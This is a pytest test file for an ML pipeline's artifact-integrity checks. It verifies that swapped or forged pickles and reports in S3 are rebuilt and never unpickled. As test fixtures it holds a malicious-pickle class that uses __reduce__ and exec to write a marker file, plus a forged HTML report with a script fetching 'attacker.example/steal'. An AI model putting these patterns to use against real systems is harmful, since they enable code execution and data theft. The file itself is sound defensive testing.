"""The workspace is never a trust input: swapped, untagged or foreign-tagged artifacts are rebuilt, never decoded.

The attacker has only S3 credentials. Its payload is a pickle whose ``__reduce__`` writes a marker file: if anything
ever unpickles it (the trainer, Publish, or whoever loads the published version), the marker appears.
"""

from __future__ import annotations

import io
import logging
import pickle
import stat
import zipfile
from pathlib import Path
from typing import Any

import luigi
import pandas as pd
import pytest

from adaptml.errors import AdaptmlError, ConfigError, IntegrityError
from adaptml.pipeline import train
from adaptml.pipeline.context import StageEvent
from adaptml.pipeline.result import TrainResult
from adaptml.pipeline.tasks import Train
from adaptml.pipeline.trust import KEY_BYTES, artifact_tag, workspace_key
from adaptml.pipeline.workspace import EDA_FILES, PUBLISHED, TAG_SUFFIX, Workspace, model_files, refit_files
from adaptml.registry import Registry
from adaptml.storage import S3Uri, Storage

from .conftest import ConfigFactory

RIDGE = model_files("ridge")["pickle"]


class _Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (f"open({str(self.marker)!r}, 'w').write('code ran')",)


@pytest.fixture(autouse=True)
def private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Runs without a signing key keep their workspace key in the user's cache: a fresh one per test."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    return tmp_path / "cache"


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "pwned"


@pytest.fixture
def payload(marker: Path) -> bytes:
    return pickle.dumps(_Payload(marker))


def _workspace(storage: Storage, cfg: Any, result: TrainResult) -> Workspace:
    return Workspace(storage, Registry(cfg.registry, cfg.project, storage=storage).runs_uri(result.run_id))


def _started(events: list[StageEvent]) -> set[str]:
    return {event.stage for event in events if event.kind == "start"}


def _assert_publishes_the_real_ridge(storage: Storage, cfg: Any, result: TrainResult, workspace: Workspace) -> None:
    loaded = Registry(cfg.registry, cfg.project, storage=storage).load(result.version)
    source = refit_files("ridge")["pickle"] if loaded.manifest["refit"] else RIDGE  # the refit on every row, if any
    assert loaded.files["models/ridge.pkl"] == workspace.read_bytes(source)  # verified: built by this run
    model = pickle.loads(loaded.files["models/ridge.pkl"])
    example = pd.DataFrame([loaded.json("schema.json")["example"]])
    assert model.predict(example).shape == (1,)


def test_a_pickle_swapped_between_runs_is_rebuilt_and_never_unpickled(
    storage: Storage, make_config: ConfigFactory, marker: Path, payload: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    cfg = make_config()
    first = train(cfg, storage=storage)
    workspace = _workspace(storage, cfg, first)
    storage.delete(workspace.uri(PUBLISHED))  # the next run publishes again...
    storage.put_bytes(workspace.uri(RIDGE), payload)  # ...whatever ridge.pkl then holds (its old tag stays)

    events: list[StageEvent] = []
    with caplog.at_level(logging.WARNING, logger="adaptml.pipeline.workspace"):
        second = train(cfg, storage=storage, progress=events.append)
    assert not marker.exists()
    assert "train ridge" in _started(events) and "train lightgbm" not in _started(events)
    assert f"{workspace.uri(RIDGE)} fails its tag" in caplog.text
    assert second.version != first.version and workspace.read_bytes(RIDGE) != payload
    _assert_publishes_the_real_ridge(storage, cfg, second, workspace)
    assert not marker.exists()


def test_a_pickle_swapped_mid_run_is_never_unpickled_and_the_rerun_rebuilds_it(
    storage: Storage, make_config: ConfigFactory, marker: Path, payload: bytes
) -> None:
    cfg = make_config()
    swapped: list[str] = []

    def swap_ridge(task: Train) -> None:  # right after Train(ridge) wrote its outputs, before anything reads them
        if task.model == "ridge":
            root = Registry(cfg.registry, cfg.project, storage=storage).runs_uri(str(task.run_id))
            storage.put_bytes(root.join(RIDGE.path), payload)
            swapped.append(str(task.run_id))

    Train.event_handler(luigi.Event.SUCCESS)(swap_ridge)
    try:
        with pytest.raises(AdaptmlError, match="did not finish"):
            train(cfg, storage=storage)
    finally:
        Train.remove_event_handler(luigi.Event.SUCCESS, swap_ridge)
    assert swapped and not marker.exists()
    registry = Registry(cfg.registry, cfg.project, storage=storage)
    assert registry.versions() == []  # the run stopped before Ensemble read the swapped model

    events: list[StageEvent] = []
    result = train(cfg, storage=storage, progress=events.append)
    assert "train ridge" in _started(events) and "ingest" not in _started(events)
    _assert_publishes_the_real_ridge(storage, cfg, result, _workspace(storage, cfg, result))
    assert not marker.exists()


def test_a_tampered_eda_report_is_rebuilt_before_it_is_published(storage: Storage, make_config: ConfigFactory) -> None:
    cfg = make_config()
    first = train(cfg, storage=storage)
    workspace = _workspace(storage, cfg, first)
    storage.delete(workspace.uri(PUBLISHED))
    forged = io.BytesIO()
    with zipfile.ZipFile(forged, "w") as archive:
        archive.writestr("report.html", "<script>fetch('https://attacker.example/steal')</script>")
    storage.put_bytes(workspace.uri(EDA_FILES), forged.getvalue())

    events: list[StageEvent] = []
    second = train(cfg, storage=storage, progress=events.append)
    assert "explore" in _started(events) and "train ridge" not in _started(events)
    report = Registry(cfg.registry, cfg.project, storage=storage).load(second.version).files["eda/report.html"]
    assert b"attacker.example" not in report
    assert report == workspace.load(EDA_FILES)["report.html"]


def test_a_tag_made_with_another_key_or_for_another_path_is_refused(
    storage: Storage, bucket: str, marker: Path, payload: bytes
) -> None:
    root = S3Uri(bucket, "registry/demo/runs/0123456789abcdef")
    ours = Workspace(storage, root, workspace_key(root.name, b"the publisher's private key"))
    theirs = Workspace(storage, root, workspace_key(root.name, b"a key the attacker made up"))
    ours.dump(RIDGE, {"coef": [1.0, 2.0]})
    assert ours.exists(RIDGE) and ours.load(RIDGE) == {"coef": [1.0, 2.0]}

    theirs.write_bytes(RIDGE, payload)  # a well-formed tag, under the wrong key
    for reader in (ours, Workspace(storage, root, ours.key)):  # with and without remembered ETags
        assert not reader.exists(RIDGE)
        with pytest.raises(IntegrityError, match="no valid workspace tag"):
            reader.load(RIDGE)

    other = model_files("lightgbm")["pickle"]  # our own valid object and tag, moved to another path
    ours.dump(other, {"coef": [3.0]})
    for suffix in ("", TAG_SUFFIX):
        storage.put_bytes(root.join(RIDGE.path + suffix), storage.get_bytes(root.join(other.path + suffix)))
    assert not ours.exists(RIDGE) and ours.exists(other)
    assert not marker.exists()


def test_the_workspace_key_is_derived_from_the_signing_key_or_kept_private_per_run(private_cache: Path) -> None:
    derived = workspace_key("run-a", b"signing key")
    assert derived == workspace_key("run-a", b"signing key")  # any process holding the key re-derives it
    assert len({derived, workspace_key("run-b", b"signing key"), workspace_key("run-a", b"other key")}) == 3
    assert not private_cache.exists()  # nothing kept locally when the key is derived

    local = workspace_key("run-a")
    assert len(local) == KEY_BYTES and local == workspace_key("run-a") and local not in {derived, workspace_key("b")}
    folder = private_cache / "adaptml" / "workspace-keys"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "run-a.key").stat().st_mode) == 0o600

    (folder / "run-a.key").chmod(0o644)  # readable by others: no longer a secret, so it is replaced
    assert workspace_key("run-a") != local
    assert stat.S_IMODE((folder / "run-a.key").stat().st_mode) == 0o600
    with pytest.raises(ConfigError, match="not a run id"):
        workspace_key("../escape")
    assert artifact_tag(local, "a.json", b"{}") != artifact_tag(local, "b.json", b"{}")
